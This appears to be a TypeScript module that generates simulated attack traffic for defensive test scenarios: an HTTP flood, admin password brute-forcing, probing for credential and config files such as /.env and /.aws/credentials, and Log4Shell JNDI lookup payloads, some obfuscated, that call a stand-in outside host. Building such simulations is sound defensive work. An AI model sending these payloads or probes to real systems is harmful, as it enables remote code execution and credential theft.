/** Attackers of the four kinds that the built-in scenarios are about. */
import type { Clock } from '#libs/clock/clock.ts';
import type { Random } from '#libs/clock/random.ts';
import type { Asked, Client } from './client.ts';

const LOOKED_FOR = [
  '/.env',
  '/.git/config',
  '/wp-config.php.bak',
  '/phpmyadmin/index.php',
  '/backup.sql',
  '/.aws/credentials',
  '/server-status',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/actuator/env',
  '/id_rsa',
];
const LOOKUPS = [
  // biome-ignore-start lint/suspicious/noTemplateCurlyInString: these are what attackers send.
  '${jndi:ldap://198.51.100.7/a}',
  '${${lower:j}ndi:${lower:l}dap://198.51.100.7/b}',
  '${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/c}',
  // biome-ignore-end lint/suspicious/noTemplateCurlyInString: as above.
];

export interface Attack {
  readonly name: string;
  readonly everyMs: number;
  /** The n-th request. */
  next(n: number, random: Random): { readonly path: string; readonly asked?: Asked };
}

export const ATTACKS: readonly Attack[] = [
  {
    name: 'http-flood',
    everyMs: 20,
    next: (n) => ({ path: `/search?q=item${n}` }),
  },
  {
    name: 'login-bruteforce',
    everyMs: 400,
    next: (n) => ({ path: '/login', asked: { method: 'POST', body: `user=admin&password=secret${n}` } }),
  },
  {
    name: 'scanner-probing',
    everyMs: 300,
    next: (n) => ({ path: LOOKED_FOR[n % LOOKED_FOR.length] }),
  },
  {
    name: 'log4shell',
    everyMs: 1500,
    next: (n) => {
      const lookup = LOOKUPS[n % LOOKUPS.length];
      return n % 2 === 0
        ? { path: '/', asked: { agent: lookup } }
        : { path: `/?x=${encodeURIComponent(lookup)}` };
    },
  },
];

/** An attacker that has been refused this often slows down: it has been stopped, and should not fill the machine. */
const REFUSED_MAX = 20;
const SLOW_MS = 500;

/** Attacks until `signal`. */
export async function attack(
  client: Client,
  { everyMs, next }: Attack,
  clock: Clock,
  random: Random,
  signal: AbortSignal,
): Promise<void> {
  for (let n = 0; !signal.aborted; n++) {
    const { path, asked } = next(n, random);
    await client.ask(path, asked);
    await clock.sleep(client.refused < REFUSED_MAX ? everyMs : Math.max(everyMs, SLOW_MS), signal);
  }
}
